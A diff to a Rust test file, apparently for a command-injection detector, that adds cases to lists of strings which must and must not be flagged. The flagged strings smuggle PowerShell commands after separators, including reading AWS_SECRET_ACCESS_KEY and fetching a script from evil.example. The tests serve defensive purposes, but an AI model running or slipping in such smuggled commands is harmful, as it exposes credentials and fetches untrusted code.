@@ -4517,6 +4517,9 @@ fn xml_text_nodes_are_judged_decoded() {
         ";i${!}d",
         "x; . {whoami}",
         "x; . { Invoke-WebRequest http://evil.example/a.ps1 }",
+        "x; gc env:AWS_SECRET_ACCESS_KEY",
+        "x; type env:PATH",
+        "a | dir HKLM:\\SOFTWARE",
     ] {
         assert!(hit(v), "{v:?}");
     }
@@ -4526,6 +4529,8 @@ fn xml_text_nodes_are_judged_decoded() {
         "<name>Tom &amp; Jerry</name>",
         "x; . {name}",
         ". {whoami}",
+        "set env: production",
+        "note: the env: prefix",
     ] {
         assert!(!hit(v), "{v:?}");
     }
